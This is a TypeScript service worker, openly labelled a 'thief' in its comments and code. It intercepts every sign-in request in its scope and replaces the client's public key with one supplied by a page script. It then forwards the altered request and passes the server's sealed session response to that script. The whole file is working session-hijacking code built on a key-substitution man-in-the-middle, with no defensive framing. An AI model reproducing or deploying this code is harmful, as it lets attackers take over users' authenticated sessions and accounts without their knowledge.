/** A service worker that puts the key of a script into each sign-in of its pages. */

interface WorkerEvent extends Event {
  readonly request: Request;
  respondWith(response: Promise<Response>): void;
  waitUntil(work: Promise<unknown>): void;
}

/** The global object of a service worker, for which this program has no types. */
interface WorkerScope {
  readonly clients: { claim(): Promise<void> };
  skipWaiting(): Promise<void>;
  addEventListener(type: string, listener: (event: WorkerEvent & MessageEvent) => void): void;
}

const worker = globalThis as unknown as WorkerScope;
const CLIENT_KEY = /(?<="clientPublicKey":")[0-9a-f]{130}/;

/** The public key of the script, and where it receives the sessions that are sealed to it. */
let thief: { readonly key: string; readonly port: MessagePort | undefined } | undefined;

async function respond(request: Request): Promise<Response> {
  const body = await request.clone().text();
  if (thief === undefined || !CLIENT_KEY.test(body)) return fetch(request);
  const { url, headers } = request;
  const swapped = body.replace(CLIENT_KEY, thief.key);
  const response = await fetch(url, { method: 'POST', headers, body: swapped });
  thief.port?.postMessage(await response.clone().json());
  return response;
}

worker.addEventListener('install', () => void worker.skipWaiting());
worker.addEventListener('activate', (event) => event.waitUntil(worker.clients.claim()));
worker.addEventListener('message', ({ data, ports: [port] }) => {
  thief = { key: String(data), port };
  port?.postMessage('ready');
});
worker.addEventListener('fetch', (event) => event.respondWith(respond(event.request)));
